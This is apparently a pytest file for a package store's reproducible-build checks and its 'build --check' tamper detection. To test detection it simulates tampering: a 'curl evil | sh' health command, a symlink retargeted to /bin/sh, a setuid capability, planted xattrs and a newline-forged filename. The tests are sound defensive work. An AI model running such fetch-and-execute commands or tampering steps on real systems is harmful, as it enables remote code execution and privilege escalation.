"""Reproducible builds: one recipe built into two fresh roots gives the same bytes (the same content
hash), and `build --check` rebuilds a key that exists and compares it file by file.

Before the fix, the recorded lock embedded the absolute `.partial` path of the build (uv's
`# via -r /ROOT/store/<name>.partial/.llmgw/requirements.in` annotation), so two roots gave two
content hashes for one key.
"""

from __future__ import annotations

import json
import os
import signal
import stat
import subprocess
from datetime import datetime
from pathlib import Path

from tests.conftest import PYTHON, build_json, cli_cmd, run_cli, run_in_env
from tests.support.barrier import Barrier
from tests.support.indexes import two_indexes  # noqa: F401  (fixture)
from tests.support.recipes import write_recipe
from tests.support.wheels import build_wheel


def _info(root: Path, name: str) -> dict:
    return json.loads(run_cli(root, "--json", "info", name, check=True).stdout)


def _listing(path: Path) -> bytes:
    return (path / ".llmgw" / "contents").read_bytes()


def test_one_recipe_two_fresh_roots_same_content_hash(tmp_path, index, recipe, uv_bin):
    a = build_json(tmp_path / "a", recipe, index, uv_bin)
    b = build_json(tmp_path / "b", recipe, index, uv_bin)
    assert a["key"] == b["key"] and a["how"] == b["how"] == "built"
    pa, pb = Path(a["path"]), Path(b["path"])
    # Same listing line for line (a failure shows the differing file), then the same hash.
    assert _listing(pa).decode().splitlines() == _listing(pb).decode().splitlines()
    assert _info(tmp_path / "a", pa.name)["content_hash"] == _info(tmp_path / "b", pb.name)["content_hash"]
    # Nothing of where it was built is in the lock: no root, no `.partial`.
    lock = (pa / ".llmgw" / "requirements.lock").read_text()
    assert str(tmp_path) not in lock and ".partial" not in lock
    assert "tinyengine==1.0" in lock and "--hash=sha256:" in lock


def _modes_and_times(path: Path) -> dict[str, tuple[str, int]]:
    out = {}
    for dirpath, dirnames, filenames in os.walk(path):
        for n in [".", *dirnames, *filenames] if dirpath == str(path) else [*dirnames, *filenames]:
            p = os.path.normpath(os.path.join(dirpath, n))
            st = os.lstat(p)
            out[os.path.relpath(p, path)] = (oct(stat.S_IMODE(st.st_mode)), int(st.st_mtime))
    return out


def test_the_builders_umask_and_clock_do_not_reach_the_store(tmp_path, index, recipe, uv_bin):
    """A root shell with umask 077 used to give 0400/0500 trees (unreadable by the engine's user)
    that differed in mode from every other build of the key; times were the build's."""
    a = build_json(tmp_path / "a", recipe, index, uv_bin)
    proc = subprocess.run(cli_cmd(tmp_path / "b", "--json", "build", str(recipe), "--index-url", index.url,
                                  "--uv", str(uv_bin)), check=False, capture_output=True, text=True, umask=0o077, timeout=300)
    assert proc.returncode == 0, proc.stderr
    b = json.loads(proc.stdout)
    pa, pb = Path(a["path"]), Path(b["path"])
    ma, mb = _modes_and_times(pa), _modes_and_times(pb)
    # .llmgw/contents and manifest.json are written after the tree is made canonical.
    meta = {".llmgw", ".llmgw/contents", ".llmgw/manifest.json"}
    assert {k: v for k, v in ma.items() if k not in meta} == {k: v for k, v in mb.items() if k not in meta}
    as_of = int(datetime.fromisoformat(a["as_of"].replace("Z", "+00:00")).timestamp())
    kinds = {os.path.relpath(p, pa): os.lstat(p).st_mode for p in map(str, pa.rglob("*"))}
    # A file linked from the wheel home (build/wheelhome.py) is one inode for every path that links
    # it: its time is the wheel home's (1, as Nix's store files), no build's asOf.
    home = {(st.st_dev, st.st_ino) for st in map(os.lstat, (tmp_path / "b" / "store" / ".wheels").rglob("*"))}
    linked = [rel for rel in mb if (lambda st: (st.st_dev, st.st_ino) in home)(os.lstat(pb / rel))]
    assert any(rel.endswith("tinyengine/__init__.py") for rel in linked)
    for rel, (mode, mtime) in mb.items():
        if rel in meta or (rel in kinds and stat.S_ISLNK(kinds[rel])):
            continue
        assert mode in ("0o555", "0o444"), (rel, mode)
        assert mtime == (1 if rel in linked else as_of), rel
    # The metadata files' modes are set, not the umask's (0400 before): 0444 once frozen.
    for rel in (".llmgw/contents", ".llmgw/manifest.json"):
        assert ma[rel][0] == mb[rel][0] == "0o444", rel
    assert _listing(pa) == _listing(pb)
    assert run_in_env(pb, "tinyengine") == "tinyengine 1.0 tinydep 1.0"


def test_pylock_build_two_fresh_roots_same_content_hash(tmp_path, two_indexes, uv_bin):
    main, extra = two_indexes
    recipe = write_recipe(tmp_path, 'version = "1.0"', "cuda.toml", variant="cu126", extra_index=extra.url,
                          index_packages=["tinytorch"])
    a = build_json(tmp_path / "a", recipe, main, uv_bin)
    b = build_json(tmp_path / "b", recipe, main, uv_bin)
    pa, pb = Path(a["path"]), Path(b["path"])
    assert _listing(pa).decode().splitlines() == _listing(pb).decode().splitlines()
    lock = (pa / ".llmgw" / "pylock.toml").read_text()
    assert str(tmp_path) not in lock and ".partial" not in lock


# --- build --check ------------------------------------------------------------------------------


def _check(root: Path, recipe: Path, index, uv: Path, *extra: str):
    return run_cli(root, "--json", "build", str(recipe), "--check", "--index-url", index.url, "--uv", str(uv), *extra)


def _tmp_entries(root: Path) -> list[str]:
    tmp = root / "var" / "tmp"
    return sorted(os.listdir(tmp)) if tmp.exists() else []


def test_check_passes_on_a_rebuilt_recipe(tmp_path, index, recipe, uv_bin):
    root = tmp_path / "root"
    built = build_json(root, recipe, index, uv_bin)
    path = Path(built["path"])
    before = _listing(path)
    proc = _check(root, recipe, index, uv_bin)
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["identical"] is True and doc["differences"] == []
    assert doc["path"] == built["path"] and doc["key"] == built["key"]
    assert doc["content_hash"] == doc["rebuilt_content_hash"] == _info(root, path.name)["content_hash"]
    assert doc["files"] > 10
    # The store path is as it was, still frozen; the temporary tree is gone.
    assert _listing(path) == before and not os.stat(path).st_mode & stat.S_IWUSR
    assert _tmp_entries(root) == []
    # Human output: one line saying so.
    proc = run_cli(root, "build", str(recipe), "--check", "--index-url", index.url, "--uv", str(uv_bin))
    assert proc.returncode == 0 and proc.stdout.startswith("identical: ")


def test_check_fails_naming_the_file_on_a_tampered_store_path(tmp_path, index, recipe, uv_bin):
    root = tmp_path / "root"
    path = Path(build_json(root, recipe, index, uv_bin)["path"])
    target = path / "lib" / f"python{PYTHON}" / "site-packages" / "tinydep" / "__init__.py"
    # As root would: give the write bit back, then write.
    os.chmod(target, 0o644)
    target.write_text(target.read_text() + "\nimport os  # planted\n")
    tampered = target.read_bytes()
    proc = _check(root, recipe, index, uv_bin)
    assert proc.returncode == 1, proc.stderr
    doc = json.loads(proc.stdout)
    rel = target.relative_to(path).as_posix()
    assert doc["identical"] is False
    assert [d["path"] for d in doc["differences"]] == [rel]
    (diff,) = doc["differences"]
    assert diff["store"]["mode"] == "0644" and diff["rebuilt"]["mode"] == "0444"
    assert diff["store"]["digest"] != diff["rebuilt"]["digest"]
    # The check never repairs: the planted bytes are still there, and the temporary tree is gone.
    assert target.read_bytes() == tampered
    assert _tmp_entries(root) == []
    proc = run_cli(root, "build", str(recipe), "--check", "--index-url", index.url, "--uv", str(uv_bin))
    assert proc.returncode == 1 and rel in proc.stdout and "differ" in proc.stderr


def test_check_names_a_retargeted_symlink_and_a_flipped_mode(tmp_path, index, recipe, uv_bin):
    root = tmp_path / "root"
    path = Path(build_json(root, recipe, index, uv_bin)["path"])
    bin_dir = path / "bin"
    os.chmod(bin_dir, 0o755)
    os.unlink(bin_dir / "python3")
    os.symlink("/bin/sh", bin_dir / "python3")
    os.chmod(bin_dir / "activate", 0o555)  # same bytes, an exec bit added
    os.chmod(bin_dir, 0o555)
    proc = _check(root, recipe, index, uv_bin)
    assert proc.returncode == 1, proc.stderr
    found = {d["path"]: d for d in json.loads(proc.stdout)["differences"]}
    assert set(found) == {"bin/python3", "bin/activate"}
    assert found["bin/python3"]["store"]["target"] == "/bin/sh"
    assert found["bin/python3"]["rebuilt"]["target"] == "python"
    assert found["bin/activate"]["store"]["mode"] == "0555" and found["bin/activate"]["rebuilt"]["mode"] == "0444"


def test_check_of_a_key_not_in_the_store_is_refused(tmp_path, index, recipe, uv_bin):
    root = tmp_path / "root"
    proc = _check(root, recipe, index, uv_bin)  # no store at all: refused, nothing created
    assert proc.returncode == 2 and "no store at" in proc.stderr
    assert not (root / "store").exists()
    # A store that holds another key of the recipe (another resolution date), not this one.
    build_json(root, recipe, index, uv_bin, "--as-of", "2024-03-01")
    proc = _check(root, recipe, index, uv_bin)
    assert proc.returncode == 2
    assert "not in the store" in proc.stderr and "build it first" in proc.stderr


def test_check_uses_the_recorded_lock_not_a_new_resolution(tmp_path, index, recipe, uv_bin, wheels):
    """A newer tinydep appears with an upload time before as_of (as a late mirror sync would make
    it look): a new resolution would pick it, the check installs the recorded lock."""
    root = tmp_path / "root"
    build_json(root, recipe, index, uv_bin)
    d = tmp_path / "late"
    index.add("tinydep", build_wheel(d, "tinydep", "1.5"), "2024-01-15T00:00:00Z")
    proc = _check(root, recipe, index, uv_bin)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["identical"] is True


def test_check_leaves_no_temporary_tree_when_terminated_and_sweeps_a_killed_ones(tmp_path, index, recipe, uv_bin):
    root = tmp_path / "root"
    path = Path(build_json(root, recipe, index, uv_bin)["path"])
    before = _listing(path)
    # What a check killed by SIGKILL leaves: its tree, named for a pid that no longer runs.
    dead = subprocess.Popen(["true"])
    dead.wait()
    stale = root / "var" / "tmp" / f"check-{dead.pid}-1"
    (stale / "env").mkdir(parents=True)
    (stale / "env" / "f").write_text("x")
    os.chmod(stale / "env", 0o555)
    # SIGTERM while the rebuild is paused just after its venv exists.
    gate = Barrier(tmp_path)
    proc = subprocess.Popen(cli_cmd(root, "build", str(recipe), "--check", "--index-url", index.url, "--uv", str(uv_bin)),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, **gate.env("BUILD_PAUSE")})
    tmp = root / "var" / "tmp"
    try:
        gate.reached("BUILD_PAUSE", proc)
        mine = [n for n in _tmp_entries(root) if n.startswith(f"check-{proc.pid}-")]
        assert mine and (tmp / mine[0] / "env" / "pyvenv.cfg").exists()  # inside its rebuild
        assert not stale.exists()  # swept before this check made its own
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 143, err  # SIGTERM, handled as ^C (system/signals.py)
    assert _tmp_entries(root) == []
    assert _listing(path) == before


def test_check_refuses_a_store_path_whose_recorded_lock_cannot_be_proved(tmp_path, index, recipe, uv_bin):
    """A manifest whose lock text was changed (to make the check install something else) no longer
    hashes to the listed lock file: the check refuses instead of rebuilding from it."""
    root = tmp_path / "root"
    path = Path(build_json(root, recipe, index, uv_bin)["path"])
    meta = path / ".llmgw"
    doc = json.loads((meta / "manifest.json").read_text())
    doc["lock"] = doc["lock"].replace("tinydep==1.0", "tinydep==2.0")
    os.chmod(meta, 0o755)
    os.chmod(meta / "manifest.json", 0o644)
    (meta / "manifest.json").write_text(json.dumps(doc))
    proc = _check(root, recipe, index, uv_bin)
    assert proc.returncode == 1 and json.loads(proc.stdout)["error"]["kind"] == "integrity"  # --json: a document
    assert "cannot be proved" in proc.stderr and f"llmgw-store verify {path.name}" in proc.stderr
    assert _tmp_entries(root) == []


NOBODY = 65534


def test_check_names_owners_xattrs_the_store_paths_own_mode_and_its_metadata(tmp_path, index, recipe, uv_bin):
    """None of these is in the listing (so none changes the content hash): each is compared or
    checked on its own. The bytes are untouched, so a check that looked at bytes and file modes
    only said `identical`."""
    root = tmp_path / "root"
    path = Path(build_json(root, recipe, index, uv_bin)["path"])
    pyvenv = path / "pyvenv.cfg"
    os.chown(pyvenv, NOBODY, NOBODY)
    subprocess.run(["setcap", "cap_setuid+ep", str(path / "bin" / "tinyengine")], check=True)
    os.setxattr(path / "bin" / "activate", "user.planted", b"1")
    site = next(path.glob("lib/python3*/site-packages"))
    outside = tmp_path / "outside.py"  # same bytes, another owner, linked in place of the store's file
    target = site / "tinydep" / "__init__.py"
    outside.write_bytes(target.read_bytes())
    os.chmod(outside, 0o444)
    os.chown(outside, NOBODY, NOBODY)
    os.chmod(target.parent, 0o755)
    os.unlink(target)
    os.link(outside, target)
    os.chmod(target.parent, 0o555)
    os.chmod(path, 0o777)  # the store path's own directory
    os.chmod(path / ".llmgw" / "contents", 0o666)
    proc = _check(root, recipe, index, uv_bin)
    assert proc.returncode == 1, proc.stderr
    doc = json.loads(proc.stdout)
    found = {d["path"]: d for d in doc["differences"]}
    rel = target.relative_to(path).as_posix()
    assert set(found) == {".", "pyvenv.cfg", "bin/tinyengine", "bin/activate", rel}
    assert found["."]["store"]["mode"] == "0777" and found["."]["rebuilt"]["mode"] == "0555"
    assert found["pyvenv.cfg"]["store"]["uid"] == NOBODY and found["pyvenv.cfg"]["rebuilt"]["uid"] == os.geteuid()
    assert found[rel]["store"]["uid"] == NOBODY and found[rel]["store"]["digest"] == found[rel]["rebuilt"]["digest"]
    assert found["bin/tinyengine"]["store"]["xattrs"] == ["security.capability"]
    assert "xattrs" not in found["bin/tinyengine"]["rebuilt"]
    assert found["bin/activate"]["store"]["xattrs"] == ["user.planted"]
    assert any(".llmgw/contents is writable" in p for p in doc["problems"])
    assert doc["identical"] is False


def test_check_names_rewritten_manifest_inputs_and_foreign_metadata(tmp_path, index, recipe, uv_bin):
    """The manifest is outside the listing: a changed health command (its lock untouched, so the
    check can still rebuild) is seen because the inputs no longer hash to the key."""
    root = tmp_path / "root"
    path = Path(build_json(root, recipe, index, uv_bin)["path"])
    meta = path / ".llmgw"
    doc = json.loads((meta / "manifest.json").read_text())
    doc["inputs"]["build"]["health"] = ["sh", "-c", "curl evil | sh"]
    os.chmod(meta, 0o755)
    os.chmod(meta / "manifest.json", 0o644)
    (meta / "manifest.json").write_text(json.dumps(doc))
    os.chmod(meta / "manifest.json", 0o444)
    os.chmod(meta, 0o555)
    os.chown(meta / "contents", NOBODY, NOBODY)
    proc = _check(root, recipe, index, uv_bin)
    assert proc.returncode == 1, proc.stderr
    r = json.loads(proc.stdout)
    assert r["differences"] == []
    assert any("do not hash to the path's key" in p for p in r["problems"])
    assert any(p.startswith(".llmgw/contents is owned by uid 65534") for p in r["problems"])
    proc = run_cli(root, "build", str(recipe), "--check", "--index-url", index.url, "--uv", str(uv_bin))
    assert proc.returncode == 1 and "do not hash to the path's key" in proc.stdout


def test_check_a_name_with_a_newline_cannot_forge_identical(tmp_path, index, recipe, uv_bin):
    root = tmp_path / "root"
    path = Path(build_json(root, recipe, index, uv_bin)["path"])
    os.chmod(path / "bin", 0o755)
    forged = f"x\nidentical: {path} (1 entries, content hash 0)"
    (path / "bin" / forged.replace("/", "_")).write_text("x")
    os.chmod(path / "bin", 0o555)
    proc = run_cli(root, "build", str(recipe), "--check", "--index-url", index.url, "--uv", str(uv_bin))
    assert proc.returncode == 1
    assert not any(line.startswith("identical:") for line in proc.stdout.splitlines()), proc.stdout
    assert "'bin/x\\nidentical: " in proc.stdout
